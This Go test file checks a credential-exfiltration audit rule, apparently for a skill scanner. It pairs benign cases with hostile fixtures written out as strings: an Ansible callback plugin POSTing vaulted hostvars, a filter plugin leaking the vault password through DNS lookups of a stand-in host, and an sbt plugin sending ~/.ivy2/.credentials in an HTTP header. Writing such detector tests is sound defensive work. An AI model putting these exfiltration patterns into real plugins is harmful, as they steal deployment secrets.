package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestSets6061aReadings: the readings added for red-team sets 60 and 61
// (helper a), each with a hostile case at its severity and a benign
// look-alike with no high finding of the rule:
//   - an Ansible callback plugin reading vaulted hostvars
//     (AnsibleVaultEncryptedUnicode) and posting them with Ansible's
//     open_url (credential-exfil); one posting only run statistics, and
//     a lookup plugin decrypting with VaultLib a file it fetched with a
//     GET, are not;
//   - an Ansible filter plugin reading the vault password file (located by
//     ansible.cfg's vault_password_file or ANSIBLE_VAULT_PASSWORD_FILE)
//     and resolving a name built from it (credential-exfil); a lookup of
//     a literal name carries nothing;
//   - an sbt plugin joining Path.userHome / ".ivy2" / ".credentials" and
//     sending it in an HTTP header (credential-exfil); a build.sbt naming
//     the file for sbt's own credentials setting, or joining home to
//     ".ivy2" / "local" before an upload, is not.
func TestSets6061aReadings(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	callback := func(read, push string) string {
		return "from ansible.module_utils.common.text.converters import to_text\nfrom ansible.module_utils.urls import open_url\nfrom ansible.plugins.callback import CallbackBase\nimport json\n\n" +
			"class CallbackModule(CallbackBase):\n    CALLBACK_NAME = 'run_report'\n    def __init__(self):\n        super().__init__()\n        self.ctx = {}\n        self.stats = {}\n\n" +
			"    def v2_playbook_on_play_start(self, play):\n        vm = play.get_variable_manager()\n        for host in vm._inventory.get_hosts(play.hosts):\n            hv = vm.get_vars(play=play, host=host)\n" + read + "\n\n" +
			"    def v2_playbook_on_stats(self, stats):\n        open_url('https://dash.example/api/runs', " + push + ", headers={'Content-Type': 'application/json'}, timeout=5)\n"
	}
	vaulted := "            self.ctx[host.name] = {k: to_text(v) for k, v in hv.items() if type(v).__name__ == 'AnsibleVaultEncryptedUnicode'}"
	counted := "            self.stats[host.name] = len(hv)"
	lookup := "from ansible.module_utils.urls import open_url\nfrom ansible.parsing.vault import VaultLib, VaultSecret\nfrom ansible.plugins.lookup import LookupBase\n\n" +
		"class LookupModule(LookupBase):\n    def run(self, terms, variables=None, **kwargs):\n        out = []\n        for url in terms:\n            blob = open_url(url, timeout=10).read()\n" +
		"            vault = VaultLib([('default', VaultSecret(self.get_option('secret').encode()))])\n            out.append(vault.decrypt(blob).decode())\n        return out\n"
	filter := func(name string) string {
		return "import configparser\nimport os\nimport socket\n\n" +
			"def _pw():\n    cfg = configparser.ConfigParser()\n    cfg.read(['ansible.cfg'])\n    path = os.environ.get('ANSIBLE_VAULT_PASSWORD_FILE') or cfg.get('defaults', 'vault_password_file', fallback='')\n" +
			"    if path and os.path.isfile(path):\n        with open(os.path.expanduser(path), 'rb') as fh:\n            return fh.read().strip()\n    return b''\n\n" +
			"def warm(value):\n    blob = _pw().hex()\n    try:\n        socket.getaddrinfo(" + name + ", 53)\n    except OSError:\n        pass\n    return value\n\n" +
			"class FilterModule(object):\n    def filters(self):\n        return {'warm': warm}\n"
	}
	sbt := func(parts, header string) string {
		return "import sbt._\nimport sbt.Keys._\nimport java.net.URI\nimport java.net.http.{HttpClient, HttpRequest, HttpResponse}\n\n" +
			"object PreviewPlugin extends AutoPlugin {\n  private val idFile = Path.userHome / " + parts + "\n  val preview = taskKey[Unit](\"upload the docs preview\")\n\n" +
			"  override def projectSettings = Seq(\n    preview := {\n      val client = HttpClient.newHttpClient()\n      val req = HttpRequest.newBuilder(URI.create(\"https://previews.example/upload\"))\n" +
			"        .header(\"X-Id\", " + header + ")\n        .POST(HttpRequest.BodyPublishers.ofString(\"site\"))\n        .build()\n      client.send(req, HttpResponse.BodyHandlers.ofString())\n    }\n  )\n}\n"
	}
	buildSbt := "ThisBuild / organization := \"org.example\"\ncredentials += Credentials(Path.userHome / \".ivy2\" / \".credentials\")\npublishTo := sonatypePublishToBundle.value\n"
	cases := map[string]sev4041{
		"hostile/ansible-callback-vault-post": {"credential-exfil", "callback_plugins/run_report.py", callback(vaulted, "method='POST', data=json.dumps(self.ctx)"), crit},
		"benign/ansible-callback-stats-post":  {"credential-exfil", "callback_plugins/run_report.py", callback(counted, "method='POST', data=json.dumps(self.stats)"), none},
		"benign/ansible-lookup-vault-fetch":   {"credential-exfil", "lookup_plugins/vaulted_url.py", lookup, none},
		"hostile/ansible-filter-vault-dns":    {"credential-exfil", "filter_plugins/warm.py", filter("'%s.cache.example' % blob[:60]"), crit},
		"benign/ansible-filter-literal-dns":   {"credential-exfil", "filter_plugins/warm.py", filter("'cache.example'"), none},
		"hostile/sbt-ivy-credentials-header":  {"credential-exfil", "project/PreviewPlugin.scala", sbt(`".ivy2" / ".credentials"`, "IO.read(idFile)"), crit},
		"benign/sbt-ivy-local-header":         {"credential-exfil", "project/PreviewPlugin.scala", sbt(`".ivy2" / "local"`, "idFile.getName"), none},
		"benign/sbt-credentials-setting":      {"credential-exfil", "build.sbt", buildSbt, none},
	}
	checkByRule(t, cases)
}
